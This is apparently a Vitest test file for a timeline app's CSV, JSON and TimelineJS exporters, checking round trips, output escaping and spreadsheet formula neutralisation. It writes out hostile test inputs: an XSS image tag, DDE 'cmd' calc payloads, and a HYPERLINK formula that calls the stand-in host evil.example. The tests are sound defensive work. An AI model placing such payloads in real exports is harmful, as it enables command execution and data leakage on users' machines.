import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { eventsToCsv, eventsToJson, eventsToTimelineJs, neutraliseFormula } from '../../src/export/exportEvents';
import { seedBundle } from '../seedFixtures';

const { bundle } = seedBundle();

describe('event export', () => {
  it('writes CSV that a real parser reads back row for row', () => {
    const csv = eventsToCsv(bundle.events, bundle);
    const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data).toHaveLength(bundle.events.length);
    const tashkent = parsed.data.find((r) => r.id === '2024-09-04-tashkent-conference')!;
    expect(tashkent).toMatchObject({
      place: 'Tashkent',
      start: '2024-09-04',
      end: '2024-09-05',
      basis: 'curated',
      as_stated: 'September 4-5',
    });
    // Titles with commas and reasons with quotes survive the round trip.
    const shanghai = parsed.data.find((r) => r.id === 'shanghai-convention')!;
    expect(shanghai.title).toBe('Shanghai Convention on Combating Terrorism, Separatism and Extremism');
    expect(tashkent.date_reason).toContain('"September 4-5"');
  });

  it('writes JSON with the bundle records', () => {
    const json = JSON.parse(eventsToJson(bundle.events.slice(0, 2), bundle));
    expect(json.events).toHaveLength(2);
    expect(json.events[0].id).toBe(bundle.events[0]!.id);
    expect(json.events[0].date).toEqual(bundle.events[0]!.date);
  });

  it('writes TimelineJS JSON with its documented fields, escaped, at the precision the sources support', () => {
    const data = JSON.parse(eventsToTimelineJs(bundle.events, bundle));
    expect(data.title.text.headline).toBe('Dushanbe Timeline');
    expect(data.events).toHaveLength(bundle.events.length);
    for (const e of data.events) {
      expect(typeof e.start_date.year).toBe('number');
      expect(typeof e.text.headline).toBe('string');
      expect(typeof e.unique_id).toBe('string');
      if (e.end_date) expect(typeof e.end_date.year).toBe('number');
      for (const k of Object.keys(e))
        expect(['start_date', 'end_date', 'text', 'group', 'unique_id', 'media', 'display_date', 'background', 'autolink']).toContain(k);
    }
    const tashkent = data.events.find((e: { unique_id: string }) => e.unique_id === '2024-09-04-tashkent-conference');
    expect(tashkent.start_date).toMatchObject({ year: 2024, month: 9, day: 4 });
    expect(tashkent.end_date).toEqual({ year: 2024, month: 9, day: 5 });
    expect(tashkent.text.text).toMatch(/date curated/);
    const strategy = data.events.find((e: { unique_id: string }) => e.unique_id.startsWith('national-border'));
    expect(strategy.start_date).toEqual({ year: 2010, display_date: '2010' });
    const hostile = structuredClone(bundle);
    hostile.events[0]!.title = '<img src=x onerror=alert(1)>';
    expect(eventsToTimelineJs(hostile.events.slice(0, 1), hostile)).not.toContain('<img');
  });
});

/** Cells a spreadsheet would run as a formula, as OWASP lists their first characters. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?x","click")', '+1+2', "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)', '\t=1+1', '\r=1+1'];

describe('CSV export and spreadsheet formulas', () => {
  it('starts every text cell that a spreadsheet would run as a formula with a quote mark, and leaves numbers as numbers', () => {
    const hostile = structuredClone(bundle);
    const placed = hostile.events.filter((e) => e.placeId && e.actorIds.length && e.id !== 'shanghai-convention');
    expect(placed.length).toBeGreaterThanOrEqual(FORMULAS.length);
    FORMULAS.forEach((f, i) => (placed[i]!.title = f));
    const first = placed[0]!;
    const place = hostile.places.find((p) => p.id === first.placeId)!;
    place.name = '=cmd|"/c calc"!A1';
    place.lon = -71.5;
    hostile.entities.find((e) => e.id === first.actorIds[0])!.name = '@SUM(A1:A9)';
    first.sources[0] = { ...first.sources[0]!, documentId: '-1+1' };
    const parsed = Papa.parse<Record<string, string>>(eventsToCsv(hostile.events, hostile), { header: true, skipEmptyLines: false });
    expect(parsed.errors).toEqual([]);
    const row = (id: string) => parsed.data.find((r) => r.id === id)!;
    FORMULAS.forEach((f, i) => expect(row(placed[i]!.id).title).toBe(`'${f}`));
    expect(row(first.id)).toMatchObject({ place: `'${place.name}`, lon: '-71.5', lat: String(place.lat) });
    expect(row(first.id).actors).toMatch(/^'@SUM\(A1:A9\)/);
    expect(row(first.id).sources).toMatch(/^'-1\+1 \(/);
    // No text cell anywhere starts a formula; the numbers (lat, lon) are left as they are.
    for (const r of parsed.data) {
      for (const [column, cell] of Object.entries(r)) if (column !== 'lat' && column !== 'lon') expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    // Cells that start harmlessly are written as before.
    const plain = hostile.events.find((e) => e.id === 'shanghai-convention')!;
    expect(row(plain.id).title).toBe(plain.title);
  });

  it('prefixes exactly the cells OWASP names, and no others', () => {
    for (const f of FORMULAS) expect(neutraliseFormula(f)).toBe(`'${f}`);
    for (const s of ['', 'Dushanbe', '2021-06-23', ' =1+1', "'quoted", 'a=b', 'Tashkent +1']) expect(neutraliseFormula(s)).toBe(s);
  });
});
